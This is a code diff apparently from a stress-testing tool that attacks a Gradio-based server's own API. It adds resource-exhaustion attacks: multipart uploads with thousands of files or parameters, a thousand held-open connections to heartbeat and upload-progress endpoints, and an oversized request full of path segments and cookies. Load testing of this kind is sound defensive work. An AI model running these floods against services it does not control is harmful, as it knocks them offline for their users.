@@ -59,6 +59,43 @@ def endless_field(target: Target) -> None:
     target.together(send, 8)
 
 
+def many_parts(target: Target) -> None:
+    """Forms of a thousand files, or whose parts and headers have thousands of parameters."""
+    part = b'--x\r\nContent-Disposition: form-data; name="files"; filename="a.txt"%b\r\n\r\nx\r\n'
+    files, parameters = part % b"" * 1_000 + b"--x--\r\n", part % (b";" * 4_000) * 500 + b"--x--\r\n"
+    sent = [
+        ("gradio_api/upload", files, ""),
+        ("gradio_api/upload", parameters, ""),
+        ("api/v1/analyze", parameters, ""),
+        ("api/v1/analyze", files, ";" * 60_000),
+    ]
+
+    def send(client: httpx.Client, number: int) -> httpx.Response:
+        address, body, more = sent[number % len(sent)]
+        headers = {"Content-Type": "multipart/form-data; boundary=x" + more}
+        return client.post(address, content=body, headers=headers)
+
+    target.together(send, 8)
+
+
+def open_pages(target: Target) -> None:
+    """Connections as an open page holds one, without the page, and many that watch an upload."""
+    addresses = ("heartbeat/{0}", "upload_progress?upload_id={0}")
+    lines: list[socket.socket] = []
+    with contextlib.ExitStack() as opened:
+        while target.goes_on:
+            for number in range(100):
+                if len(lines) >= 1_000:
+                    break
+                with contextlib.suppress(OSError):
+                    line = opened.enter_context(target.connect())
+                    address = addresses[number % 4 == 0].format(uuid.uuid4().hex)
+                    line.sendall(f"GET /gradio_api/{address} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
+                    target.note("asked")
+                    lines.append(line)
+            time.sleep(0.1)
+
+
 def slow_bodies(target: Target) -> None:
     """A byte now and then, over many connections, to every kind of address."""
     addresses = ("/api/v1/analyze", "/api/v1/video", "/gradio_api/upload", "/gradio_api/component_server")
@@ -169,6 +206,7 @@ def bad_requests(target: Target) -> None:
     sent = [
         b"\x16\x03\x01\x02\0\x01" * 10,
         b"GET " + b"a" * 100_000,
+        b"GET /" + b"a/" * 20_000 + b" HTTP/1.1\r\nHost: x\r\nCookie: " + b"a=b;" * 9_000 + b"\r\n\r\n",
         b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 20_000,
         b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n" + b"1\r\nx\r\n" * 40_000,
         b"POST /gradio_api/call/v2/nonsense HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}",
@@ -190,6 +228,8 @@ ATTACKS: Final[dict[str, Callable[[Target], None]]] = {
         endless_json,
         many_values,
         endless_field,
+        many_parts,
+        open_pages,
         photos_as_files,
         photos_past_the_queue,
         base64_by_rest,
